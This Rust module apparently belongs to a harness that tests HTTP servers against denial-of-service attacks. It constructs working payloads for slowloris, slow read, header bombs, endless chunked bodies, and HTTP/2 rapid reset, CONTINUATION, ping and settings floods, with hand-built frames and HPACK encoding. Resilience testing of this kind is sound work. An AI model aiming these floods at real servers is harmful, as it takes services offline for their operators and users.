//! The bytes that attackers send.

use std::time::Duration;

/// An attack: a number of connections send the start of something, and then more of it.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    pub(crate) connections: usize,
    pub(crate) start: Vec<u8>,
    pub(crate) then: Then,
}

/// What a connection does after it has sent its start.
pub(crate) enum Then {
    /// It sends the given bytes, if any, twice a second, and reads nothing.
    Wait(&'static [u8]),
    /// It sends as much as the server takes, and reconnects when the server closes the connection. The function makes the piece
    /// with the given number.
    Flood(fn(u32) -> Vec<u8>),
    /// It disconnects and reconnects.
    Leave,
}

impl Attack {
    pub(crate) const fn is_slow(&self) -> bool {
        matches!(self.then, Then::Wait(_))
    }

    pub(crate) const fn is_http2(&self) -> bool {
        matches!(self.start.as_slice(), [b'P', b'R', b'I', ..])
    }

    /// Returns how long the attack lasts: `slow` if it is a slow attack, or else at most five seconds.
    pub(crate) fn lasts(&self, slow: Duration) -> Duration {
        if self.is_slow() { slow } else { slow.min(Duration::from_secs(5)) }
    }
}

const MANY: usize = 1000;
const FEW: usize = 8;

const GET: &str = "GET / HTTP/1.1\r\nHost: a.example\r\n";
const POST: &str = "POST /echo HTTP/1.1\r\nHost: a.example\r\n";

pub(crate) fn all() -> Vec<Attack> {
    let slow =
        |name, start: &[u8], drip| Attack { name, connections: MANY, start: start.into(), then: Then::Wait(drip) };
    let flood =
        |name, start: &[u8], piece| Attack { name, connections: FEW, start: start.into(), then: Then::Flood(piece) };
    let chunked = format!("{POST}Transfer-Encoding: chunked\r\n\r\n");
    vec![
        slow("silence", b"", b""),
        slow("slowloris in the head", format!("{GET}X: ").as_bytes(), b"x"),
        slow("slowloris in the body", format!("{POST}Content-Length: 100000\r\n\r\n").as_bytes(), b"x"),
        // Only 50, because one of the servers keeps the whole response in memory for each.
        Attack { connections: 50, ..slow("slow read", b"GET /large HTTP/1.1\r\nHost: a.example\r\n\r\n", b"") },
        slow("HTTP/2 without a request", &preface(&[]), b""),
        // An initial window of zero bytes, then GET /large.
        slow("HTTP/2 slow read", &[preface(&[0, 4, 0, 0, 0, 0]), get(1, "/large")].concat(), b""),
        Attack { name: "clients that vanish", connections: 64, start: format!("{GET}\r\n").into(), then: Then::Leave },
        flood("pipelined requests", b"", |_| format!("{GET}\r\n").repeat(1000).into()),
        flood("header bomb", GET.as_bytes(), |_| b"X: yyyyyyyyyyyyyyyy\r\n".repeat(1000)),
        flood("endless body", chunked.as_bytes(), |_| [b"10000\r\n".as_slice(), &[b'x'; 65_536], b"\r\n"].concat()),
        flood("extensions of chunks", chunked.as_bytes(), |_| {
            b"1;x=yyyyyyyyyyyyyyyyyyyyyyyyyyyy\r\nx\r\n".repeat(1000)
        }),
        flood("HTTP/2 rapid reset", &preface(&[]), |number| pairs(number, |id| frame(3, 0, id, &[0, 0, 0, 8]))),
        flood("HTTP/2 resets of the server", &preface(&[]), |number| pairs(number, |id| frame(8, 0, id, &[0; 4]))),
        flood("HTTP/2 CONTINUATION", &[preface(&[]), frame(1, 1, 1, &block("/"))].concat(), |_| {
            frame(9, 0, 1, &[0, 1, b'x', 1, b'y']).repeat(1000)
        }),
        flood("HTTP/2 pings", &preface(&[]), |_| frame(6, 0, 0, &[0; 8]).repeat(1000)),
        flood("HTTP/2 settings", &preface(&[]), |_| frame(4, 0, 0, &[]).repeat(1000)),
    ]
}

/// A hundred requests for `/`, each followed by a frame.
fn pairs(number: u32, frame: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    let ids = (number * 100..(number + 1) * 100).map(|id| 2 * id + 1);
    ids.flat_map(|id| [get(id, "/"), frame(id)].concat()).collect()
}

/// The preface of an HTTP/2 connection, with the client's settings.
fn preface(settings: &[u8]) -> Vec<u8> {
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), frame(4, 0, 0, settings)].concat()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A HEADERS frame: a GET request without a body.
fn get(stream: u32, path: &str) -> Vec<u8> {
    frame(1, 5, stream, &block(path))
}

/// The method GET, the scheme http, the path and the host, in HPACK.
fn block(path: &str) -> Vec<u8> {
    let text = |name: u8, text: &str| [&[name, text.len() as u8], text.as_bytes()].concat();
    [vec![0x82, 0x86], text(0x04, path), text(0x01, "a.example")].concat()
}
